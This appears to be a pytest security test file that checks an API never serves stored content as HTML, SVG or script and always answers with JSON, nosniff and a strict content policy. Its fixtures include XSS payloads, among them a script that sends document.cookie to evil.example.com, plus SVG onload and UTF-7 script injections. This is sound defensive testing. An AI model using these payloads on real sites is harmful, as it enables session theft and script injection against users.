"""What owners store never runs where the API lives: a page, an SVG, a script, in any field, read back by any call.

There is no address that answers with stored bytes as a document of their own kind: all is JSON, with nosniff, and a policy
that runs nothing should a browser show it all the same.
"""

from __future__ import annotations

import json
from collections.abc import Mapping

import pytest

from tests.flow.api import Api, fresh, token
from tests.security.bodies import EVENTS, OF_A_CONVERSATION, Route
from web.demo import views

EVIL = {
    "text/html": "<!doctype html><script>fetch('//evil.example.com/'+document.cookie)</script>",
    "image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(2)</script></svg>",
    "application/javascript": "alert(document.domain)",
    "text/html; charset=utf-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
}
READS = [route for route in OF_A_CONVERSATION if route.method == "GET" and route.id != EVENTS]


@pytest.mark.parametrize("route", READS, ids=lambda route: route.id)
@pytest.mark.parametrize("kind", EVIL)
def test_stored_pages_are_never_answered_as_pages(api: Api, route: Route, kind: str) -> None:
    conversation, text = fresh("evil"), EVIL[kind]
    for path, body in (
        (
            "messages",
            {"id": "m1", "role": "user", "content": text, "parts": [{"type": "text", "text": text}]},
        ),
        ("tool-results", {"id": "t1", "output": text, "errorText": text}),
        ("artifacts", {"id": "a1", "kind": "html", "title": text, "mediaType": kind, "content": text}),
    ):
        assert api("PUT", f"{conversation}/{path}", body).status == 202
    api("PATCH", conversation, {"title": text})
    api.rig.flush(conversation)
    for accept in ("text/html,*/*", kind, "*/*"):
        sent = {"Authorization": f"Bearer {token()}", "Accept": accept}
        answer = api.app.test_client().get(route.to(conversation), headers=sent)
        assert answer.status_code == 200
        assert (
            json.dumps(text)[1:-1].encode() in answer.data or text.encode() in answer.data or kind[-1] == "7"
        )
        assert_inert(dict(answer.headers))


def assert_inert(headers: Mapping[str, str]) -> None:
    assert headers["Content-Type"].partition(";")[0] in ("application/json", "application/problem+json")
    assert headers["X-Content-Type-Options"] == "nosniff"
    policy = headers["Content-Security-Policy"]
    assert "default-src 'none'" in policy
    assert "frame-ancestors 'none'" in policy
    assert "script-src" not in policy
    assert "sandbox" in policy


@pytest.mark.parametrize(
    "path", ["/api/conversations/<script>alert(1)<%2Fscript>", "/<svg onload=alert(1)>", "/problems/<b>"]
)
def test_what_is_refused_is_not_echoed_as_a_page(api: Api, path: str) -> None:
    answer = api.app.test_client().get(
        path, headers={"Authorization": f"Bearer {token()}", "Accept": "text/html"}
    )
    assert answer.status_code in (404, 422)
    assert b"<script" not in answer.data
    assert b"<svg" not in answer.data
    assert b"<b>" not in answer.data


def test_the_demo_shows_artifacts_in_a_frame_without_an_origin() -> None:
    policy = next(
        value for value in vars(views).values() if isinstance(value, str) and value.startswith("sandbox")
    )
    assert policy.split(";")[0] == "sandbox allow-scripts", "allow-same-origin would give it ours"
    assert "default-src 'none'" in policy
